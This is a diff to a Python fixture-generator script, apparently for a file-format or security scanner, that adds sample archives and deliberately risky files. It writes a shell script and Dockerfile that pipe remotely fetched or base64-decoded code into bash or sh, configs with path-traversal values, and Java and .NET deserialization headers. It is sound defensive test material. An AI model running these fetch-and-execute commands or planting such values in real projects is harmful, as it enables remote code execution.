@@ -35,6 +35,21 @@ write("stored.zst", b"\x28\xB5\x2F\xFD\x20\x05" + struct.pack("<I", 5 << 3 | 1)[
 write("skippable.zst", b"\x50\x2A\x4D\x18" + struct.pack("<I", 3) + b"abc")
 # Archives that are only recognised.
 write("empty.rar", b"Rar!\x1A\x07\x00")
+file = b"\x02\x02\x03\0\x09\0\0\x01\x05a.bin"
+write("stored.rar", b"Rar!\x1A\x07\x01\0" + b"\0\0\0\0\x03\x01\0\0" + bytes(4) + bytes([len(file)]) + file + b"abc" + b"\0\0\0\0\x03\x05\0\0")
+old = bytes([3, 0, 0, 0, 3, 0, 0, 0, 3]) + bytes(8) + bytes([29, 0x30, 5, 0]) + bytes(4) + b"a.bin"
+write("stored4.rar", b"Rar!\x1A\x07\0" + b"\0\0\x73\0\0\x0d\0" + bytes(6) + b"\0\0\x74\0\x80" + struct.pack("<H", 7 + len(old)) + old + b"abc" + b"\0\0\x7b\0\0\x07\0")
+write("legacy.lz4", b"\x02\x21\x4C\x18" + struct.pack("<I", 6) + b"\x50hello")
+# Commands, build files, a server's configuration, a program in PaddlePaddle's newer form, objects of Java and .NET.
+write("run.sh", "#!/bin/sh\ncurl -fsSL http://198.51.100.7/a \\\n  | sudo bash\nbash <(wget -qO- https://example.com)\n")
+write("Dockerfile", "FROM python:3.11\nRUN pip install x --index-url http://198.51.100.7 && \\\n  echo aWQ= | base64 -d | sh\nADD http://a/b /c\n")
+write("Modelfile", "FROM ./m.gguf\nADAPTER ../../x\nTEMPLATE \"\"\"{{ .Prompt }}\"\"\"\n")
+write("config.pbtxt", 'name: "m"\nbackend: "../x"\nmodel_operations { op_library_filename: [ "a.so", "\\057b.so" ] }\n'
+      'parameters: { key: "EXECUTION_ENV_PATH", value: { string_value: "/a/env.tar.gz" } }\n')
+write("pir.json", json.dumps({"base_code": {"magic": "pir"}, "program": {"regions": [{"blocks": [{"ops": [{"#": "1.py_func", "A": [], "I": [], "O": []}]}]}]}}))
+write("objects.ser", b"\xac\xed\0\x05\x73\x72\0\x11java.util.HashMap" + bytes(8) + b"\x03\0\0\x78\x70\x73\x7d\0\0\0\x01\0\x0djava.util.Map\x78\x70")
+write("objects.net", b"\0\x01\0\0\0\xff\xff\xff\xff\x01" + bytes(7) + b"\x0c\x02\0\0\0\x13System.Data.DataSet")
+write("program.bin", bytes(range(1, 100)) * 3 + b"\x7fELF\x02\x01\x01" + bytes(100) + b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(80))
 write("library.a", b"!<arch>\n" + b"name/           0           0     0     644     4         `\n" + b"abcd")
 write("old.cpio", b"070701" + b"0" * 104)
 # GGML's forebears: header, parameters, a vocabulary of two, one tensor.
